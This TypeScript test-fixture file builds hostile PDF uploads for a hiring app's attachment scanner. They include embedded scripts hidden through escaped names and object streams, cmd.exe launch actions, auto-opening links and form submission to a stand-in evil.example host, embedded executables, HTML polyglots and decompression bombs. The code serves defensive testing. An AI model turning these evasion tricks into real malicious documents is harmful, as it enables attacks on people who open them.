import { deflateSync } from 'node:zlib'
import type { AttachmentRefusal } from '#domain/hiring/attachments.ts'
import { aZip } from '../file-samples.ts'
import { anObjectStream, aPdfWith, appendRevision, aStream, writePdf } from './pdf-writer.ts'
import type { HostileFile } from './upload-sample.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const openScript = { 5: script, 6: '<< /Type /Outlines >>' }
/** Opens object 5, which is in the object stream that is object 4. */
const withScriptIn = (objectStream: Buffer, ...more: (string | Buffer)[]) =>
  aPdfWith({ catalog: '/OpenAction 5 0 R ', more: [objectStream, ...more] })

const scripts: Record<string, Buffer> = {
  'a script that runs on opening': aPdfWith({ catalog: `/OpenAction ${script} ` }),
  'a script under an escaped name': aPdfWith({ catalog: '/OpenAction << /S /J#61vaScr#69pt /J#53 (x) >> ' }),
  'only the key of a script': aPdfWith({ catalog: '/OpenAction << /S /Named /JS (x) >> ' }),
  'a script in an object stream': withScriptIn(anObjectStream(openScript)),
  'an object stream under an escaped name': withScriptIn(anObjectStream(openScript, { type: '/Type/Obj#53tm' })),
  'an object stream without its type': withScriptIn(anObjectStream(openScript, { type: '' })),
  'an object stream whose type is another object': withScriptIn(
    anObjectStream(openScript, { type: '/Type 7 0 R' }),
    '<< >>',
    '<< >>',
    '/ObjStm',
  ),
  'a dictionary between the type and the data': withScriptIn(
    anObjectStream(openScript, { filter: '/DecodeParms << /Predictor 1 >> /Filter /FlateDecode' }),
  ),
  'an object stream without compression': withScriptIn(
    anObjectStream(openScript, { filter: '', encode: (data) => data }),
  ),
  'an object stream whose filter is another object': withScriptIn(
    anObjectStream(openScript, { filter: '/Filter 7 0 R' }),
    '<< >>',
    '<< >>',
    '[/FlateDecode]',
  ),
  'twelve blanks before the data': withScriptIn(anObjectStream(openScript, { keyword: `${' '.repeat(12)}stream\r\n` })),
  'a comment before the data': withScriptIn(anObjectStream(openScript, { keyword: '%endobj\nstream\n' })),
  'a wrong length': withScriptIn(
    Buffer.from(
      anObjectStream(openScript)
        .toString('latin1')
        .replace(/Length \d+/, 'Length 3'),
      'latin1',
    ),
  ),
  'a script in the list of scripts': aPdfWith({
    catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >> ',
    more: [script],
  }),
  'a script of the page': aPdfWith({ page: `/AA << /O ${script} >> ` }),
  'a script of a field': aPdfWith({
    page: '/Annots [4 0 R] ',
    more: [`<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /AA << /K ${script} >> >>`],
  }),
  'a script whose type is another object': aPdfWith({
    catalog: '/OpenAction << /S 4 0 R /Next 5 0 R >> ',
    more: ['/JavaScript', '<< >>'],
  }),
  'a script in an object that nothing refers to': aPdfWith({ more: [script] }),
  'a script in an earlier revision': appendRevision(
    aPdfWith({ catalog: '/OpenAction 4 0 R ', more: [script] }),
    4,
    '<< /S /GoTo /D [3 0 R /Fit] >>',
  ),
  'a script in a later revision': appendRevision(
    aPdfWith({ catalog: '/OpenAction 4 0 R ', more: ['null'] }),
    4,
    script,
  ),
  'an object within a string': aPdfWith({ more: ['(9 0 obj << /S /JavaScript /JS (app.alert) >> endobj)'] }),
  'an object within the data of a stream': aPdfWith({ more: [aStream('', `9 0 obj\n${script}\nendobj`)] }),
  'an object within a comment': aPdfWith({ more: [`null % 9 0 obj ${script}`] }),
  'comments within the number of an object': aPdfWith({ more: [aStream('', `9 %\n 0 %\n obj%\n${script}\nendobj`)] }),
  'a link to a script': aPdfWith({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (JavaScript:x) >> >>] ',
  }),
  'an XFA form': aPdfWith({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> ', more: [aStream('', '<xdp/>')] }),
}

const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>] `

const actions: Record<string, Buffer> = {
  'a program that starts on opening': aPdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }),
  'a link that starts a program': aPdfWith({ page: link('<< /S /L#61unch /Win << /F (cmd.exe) >> >>') }),
  'an address that opens by itself': aPdfWith({
    catalog: '/OpenAction << /S /URI /URI (https://evil.example) >> ',
  }),
  'an address that opens with the page': aPdfWith({
    page: '/AA << /O << /S /URI /URI (https://evil.example) >> >> ',
  }),
  'an address after a harmless action': aPdfWith({
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >> ',
    more: ['<< /S /URI /URI (https://evil.example) >>'],
  }),
  'an address in an object stream': aPdfWith({
    catalog: '/OpenAction 5 0 R ',
    more: [anObjectStream({ 5: '<< /S /URI /URI (https://evil.example) >>' })],
  }),
  'a file on another computer': aPdfWith({
    catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit] >> ',
  }),
  'an embedded file that opens by itself': aPdfWith({ catalog: '/OpenAction << /S /GoToE /T << /R /C >> >> ' }),
  'a form that is sent by itself': aPdfWith({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >> ' }),
  'data that is read by itself': aPdfWith({ page: '/AA << /O << /S /ImportData /F (x.fdf) >> >> ' }),
}

const objects: Record<string, Buffer> = {
  'an embedded program': aPdfWith({
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> ',
    more: [
      '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
      aStream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(Buffer.from('MZ\x90'))),
    ],
  }),
  'an embedded file under an escaped name': aPdfWith({ more: [aStream('/Type /Embedded#46ile', 'MZ')] }),
  'a file as a note': aPdfWith({
    page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>] ',
  }),
  'rich media': aPdfWith({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>] ' }),
  'a video': aPdfWith({ page: '/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>] ' }),
}

const linked: Record<string, Buffer> = {
  'data from another file': aPdfWith({ more: [aStream('/F (\\\\\\\\evil\\\\x)', '')] }),
}

const aCopyOf = (bytes: Buffer, change: (text: string) => string) =>
  Buffer.from(change(bytes.toString('latin1')), 'latin1')
const html = '<html><script>alert(1)</script></html>'
const plain = aPdfWith()

const mixed: Record<string, Buffer> = {
  'HTML before the PDF': Buffer.concat([Buffer.from(`${html}\n`), plain]),
  'a program before the PDF': Buffer.concat([Buffer.from('MZ\x90\0'), plain]),
  'HTML after the end': aPdfWith({ end: html }),
  'HTML after the end and another end': aPdfWith({ end: `${html}\n%%EOF\n` }),
  'a ZIP archive after the end': Buffer.concat([plain, aZip([{ name: 'x.class', content: 'x' }])]),
  'a program after the end': aPdfWith({ end: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(5000, 1)]) }),
  'HTML in a comment': aPdfWith({ header: `%PDF-1.7\n%${html}\n` }),
}

const broken: Record<string, Buffer> = {
  'half a PDF': plain.subarray(0, 200),
  'no end': aCopyOf(plain, (text) => text.replace('%%EOF', '')),
  'something unknown between objects': aCopyOf(plain, (text) => text.replace('2 0 obj', 'what is this 2 0 obj')),
  'a dictionary that does not end': aCopyOf(plain, (text) => text.replace('/Count 1 >>', '/Count 1')),
  'an object stream of an unknown filter': withScriptIn(anObjectStream(openScript, { filter: '/Filter /MadeUp' })),
  'an object stream that is damaged': withScriptIn(
    anObjectStream(openScript, { encode: (data) => deflateSync(data).fill(0x55, 4, 30) }),
  ),
  'an object stream of image data': withScriptIn(anObjectStream(openScript, { filter: '/Filter /DCTDecode' })),
  'an object stream behind two filters': withScriptIn(
    anObjectStream(openScript, {
      filter: '/Filter [/ASCIIHexDecode /FlateDecode]',
      encode: (data) => `${deflateSync(data).toString('hex')}>`,
    }),
  ),
  ...Object.fromEntries(
    ['A85', 'LZWDecode', 'RunLengthDecode', 'Crypt', 'FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>'].map(
      (filter) => [
        `an object stream behind ${filter}`,
        withScriptIn(anObjectStream(openScript, { filter: `/Filter /${filter}` })),
      ],
    ),
  ),
  'nothing but a header': Buffer.from('%PDF-1.7\n%%EOF\n'),
}

const endlessArray = `${'['.repeat(100_000)}`
const manyValues = `[${'1 '.repeat(9_000_000)}]`

const bombs: Record<string, () => Buffer> = {
  'an object stream of 25 MB': () => withScriptIn(anObjectStream({ 6: ' '.repeat(25_000_000) })),
  'a hundred thousand nested arrays': () => aPdfWith({ more: [endlessArray] }),
  'millions of values': () => aPdfWith({ more: [anObjectStream({ 6: manyValues })] }),
  'objects that overlap': () => aPdfWith({ more: [aStream('', '0 0 obj ('.repeat(500_000))] }),
  'streams that overlap': () => aPdfWith({ more: [aStream('', '0 0 obj<<>>stream '.repeat(250_000))] }),
  'blanks that count many times': () =>
    aPdfWith({ more: [aStream('', `${'obj['.repeat(500_000)}${' '.repeat(3_000_000)}`)] }),
  'an object that is defined many times': () =>
    aPdfWith({ more: [aStream('', '9 0 obj/A endobj '.repeat(50_000)), `[${'<</S 9 0 R>>'.repeat(100_000)}]`] }),
  'an object stream that lists one object many times': () => {
    const [count, body] = [60_000, `[${'0 '.repeat(20_000)}]`]
    const head = '5 0 '.repeat(count)
    const dictionary = `/Type /ObjStm /N ${count} /First ${head.length} /Filter /FlateDecode`
    return aPdfWith({ more: [aStream(dictionary, deflateSync(head + body))] })
  },
  'filters many times over': () =>
    withScriptIn(
      anObjectStream(openScript, {
        filter: `/Filter [${'/FlateDecode '.repeat(4)}]`,
        encode: () => [1, 2, 3].reduce((data) => deflateSync(data), deflateSync(Buffer.alloc(25_000_000))),
      }),
    ),
}

const toFiles = (files: Record<string, Buffer>, reason: AttachmentRefusal): HostileFile[] =>
  Object.entries(files).map(([what, bytes]) => ({ what: `PDF: ${what}`, name: 'Lebenslauf.pdf', bytes, reason }))

/** A function, because the bombs need much memory while they are created. */
export const createHostilePdfs = (): HostileFile[] => [
  ...toFiles(scripts, 'fileHasScripts'),
  ...toFiles(actions, 'fileHasActions'),
  ...toFiles(objects, 'fileHasObjects'),
  ...toFiles(linked, 'fileHasLinkedContent'),
  ...toFiles(mixed, 'fileHasExtraData'),
  ...toFiles(broken, 'fileBroken'),
  ...toFiles(
    {
      'a second catalog that is locked': writePdf(['<< /Type /Catalog >>'], {
        trailer: '/Encrypt << /Filter /Own /V 4 >> ',
      }),
    },
    'fileLocked',
  ),
  ...toFiles(Object.fromEntries(Object.entries(bombs).map(([what, create]) => [what, create()])), 'fileTooComplex'),
]
